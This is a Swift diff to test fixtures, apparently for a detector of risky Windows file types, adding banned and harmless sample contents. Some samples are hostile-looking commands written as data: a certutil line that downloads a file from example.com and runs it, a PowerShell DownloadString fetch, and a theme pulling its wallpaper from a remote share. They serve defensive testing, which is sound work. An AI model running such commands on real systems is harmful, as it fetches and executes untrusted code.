@@ -107,6 +107,9 @@ extension BannedSamples {
             "Internet shortcut of a browser",
             text("[DEFAULT]\r\nBASEURL=x\r\n[InternetShortcut]\r\nURL=http://example.com/\r\n")
         ),
+        ("batch file of one command", text("certutil -urlcache -f http://example.com/x x.tmp & x.tmp\r\n")),
+        ("script that waits", text("If True Then WScript.Sleep 1000\r\n")),
+        ("PowerShell that fetches", text("$x = $y.DownloadString('http://example.com/')\r\n")),
         ("batch file behind a comment", text("REM x\r\n:: y\r\n@echo off\r\n")),
         ("Remote Desktop file", text("screen mode id:i:2\r\nfull address:s:example.com\r\n")),
         (
@@ -125,9 +128,36 @@ extension BannedSamples {
             )
         ),
         ("search", text("<?xml version=\"1.0\"?>\n<persistedQuery version=\"1.0\"></persistedQuery>\n")),
+        ("program information", marked(600, 369, text("MICROSOFT PIFEX"))), ("task", task),
+        (
+            "theme",
+            text("; x\r\n[Theme]\r\nDisplayName=x\r\n[Control Panel\\Desktop]\r\nWallpaper=\\\\example.com\\x.jpg\r\n")
+        ),
+        ("theme with its own mark", text("[Theme]\r\n\r\n[MasterThemeSelector]\r\nMTSM=DABJDKT\r\n")),
+        ("Outlook profile", text("[General]\r\nCustom=1\r\nProfileName=x\r\n\r\n[Service List]\r\nServiceX=x\r\n")),
+        ("data link", wide("[oledb]\r\n; Everything after this line is an OLE DB initstring\r\nProvider=x\r\n")),
+        (
+            "Windows Sandbox",
+            text("<Configuration>\n<LogonCommand><Command>calc.exe</Command></LogonCommand>\n</Configuration>\n")
+        ),
+        ("App Installer", text("<?xml version=\"1.0\"?>\n<AppInstaller Uri=\"http://example.com/x\"/>\n")),
+        ("database query", text("XLODBC\r\n1\r\nDSN=x\r\n")), ("OLAP query", text("QueryType=OLEDB\r\nVersion=1\r\n")),
         ("SYLK", text("ID;PWXL;N;E\r\nC;X1;Y1;K0\r\nE\r\n")),
         ("Access database", padded([0, 1, 0, 0] + text("Standard ACE DB"), 512)),
     ]
+
+    /// A task for `a` (MS-TSCH section 2.4).
+    private static let task: [UInt8] = {
+        var bytes = padded([0x01, 0x06, 0x01, 0x00], 200)
+        bytes.replaceSubrange(20..<24, with: [70, 0, 76, 0])
+        bytes.replaceSubrange(70..<76, with: [2, 0, 0x61, 0, 0, 0])
+        return bytes
+    }()
+
+    /// Text in UTF-16, with its mark.
+    private static func wide(_ words: String) -> [UInt8] {
+        [0xFF, 0xFE] + words.utf16.flatMap { [UInt8(truncatingIfNeeded: $0), UInt8(truncatingIfNeeded: $0 >> 8)] }
+    }
 
     private static let archives: [(String, [UInt8])] = [
         (
@@ -169,6 +199,10 @@ extension BannedSamples {
     static let harmlessContents: [(name: String, content: [UInt8])] = [
         ("notes.txt", text("Our PowerShell guide: open a console and type Get-Help. WScript is gone.\r\n")),
         ("setup.ini", text("[General]\r\nURL=http://example.com/\r\n[Shelly]\r\nCommand=2\r\n")),
+        ("guide.txt", text("Use the commands certutil, mshta and schtasks as the manual says.\r\n")),
+        ("colours.ini", text("[Theme]\r\nDisplayName=x\r\nName=[VisualStyles]\r\n")),
+        ("users.ini", text("ProfileName=x\r\n[Services]\r\n[Lists]\r\n")), ("oledb.txt", text("see [oledb] there\r\n")),
+        ("pifex.txt", text("MICROSOFT PIFEX\r\n")), ("numbers.bin", padded([0x01, 0x06, 0x01, 0x00], 200)),
         ("list.csv", text("ID,name\r\n1,begin\r\n")), ("id.txt", text("ID card: please bring it\r\n")),
         ("page.xml", text("<?xml version=\"1.0\"?>\n<assembly><part/></assembly>\n")),
         (
